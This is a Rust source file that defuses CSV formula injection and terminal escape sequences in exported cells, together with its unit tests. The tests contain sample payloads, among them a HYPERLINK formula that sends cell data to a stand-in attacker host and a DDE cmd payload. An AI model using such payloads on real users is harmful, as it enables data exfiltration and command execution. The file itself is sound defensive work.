//! Every CSV the project writes goes through here: cells are neutralised for the terminal and
//! defused for spreadsheets (CWE-1236), so a user agent of `=HYPERLINK(...)` stays text.

use std::borrow::Cow;

use crate::domain::untrusted::neutralise;

/// The characters that make a spreadsheet read a cell as a formula (or, for tab and CR, that
/// hide one behind them).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One cell, safe to open in a spreadsheet: a leading `= + - @`, tab or carriage return is
/// quoted with `'` (which spreadsheets show as text and do not run), control characters are
/// made visible. A bare `-` (no value) and plain numbers such as `-3` run nothing and stay as
/// they are, so the export stays readable.
pub fn cell(text: &str) -> Cow<'_, str> {
    let risky = text.starts_with(FORMULA_START) && text != "-" && !is_plain_number(text);
    match (risky, neutralise(text)) {
        (false, clean) => clean,
        (true, clean) => Cow::Owned(format!("'{clean}")),
    }
}

fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|&c| c == '.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

/// A CSV document whose every cell passes through [`cell`].
pub struct SafeCsv {
    writer: csv::Writer<Vec<u8>>,
}

impl Default for SafeCsv {
    fn default() -> Self {
        Self::new()
    }
}

impl SafeCsv {
    pub fn new() -> Self {
        Self {
            writer: csv::Writer::from_writer(Vec::new()),
        }
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer
            .write_record(cells.into_iter().map(|c| cell(c.as_ref()).into_owned()))
    }

    pub fn finish(self) -> Result<String, csv::Error> {
        let bytes = self.writer.into_inner().map_err(|e| e.into_error())?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::{SafeCsv, cell};

    #[test]
    fn formulas_are_quoted_and_stay_readable() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
            r#"'=HYPERLINK("http://evil.example/?"&A1,"click")"#
        );
        assert_eq!(cell("=1+1"), "'=1+1");
        assert_eq!(cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(cell("-2+3+cmd|x"), "'-2+3+cmd|x");
        assert_eq!(cell("@SUM(A1:A9)"), "'@SUM(A1:A9)");
        assert_eq!(cell("\t=1+1"), "' =1+1");
        assert_eq!(cell("\r=1+1"), "'^M=1+1");
    }

    #[test]
    fn ordinary_values_are_untouched() {
        for plain in [
            "/clarivum/prod/db",
            "-",
            "-3",
            "+1.5",
            "2026-11-20T10:00:00Z",
            "",
        ] {
            assert_eq!(cell(plain), plain);
        }
        assert_eq!(cell("a=b"), "a=b");
    }

    #[test]
    fn control_characters_never_reach_the_file() {
        assert_eq!(cell("evil\u{1b}[2J"), "evil\\e[2J");
    }

    #[test]
    fn a_document_quotes_every_risky_cell() {
        let mut doc = SafeCsv::new();
        doc.row(["ua", "ip"]).expect("header");
        doc.row(["=cmd()", "@x"]).expect("row");
        let text = doc.finish().expect("csv");
        assert_eq!(text, "ua,ip\n'=cmd(),'@x\n");
    }
}
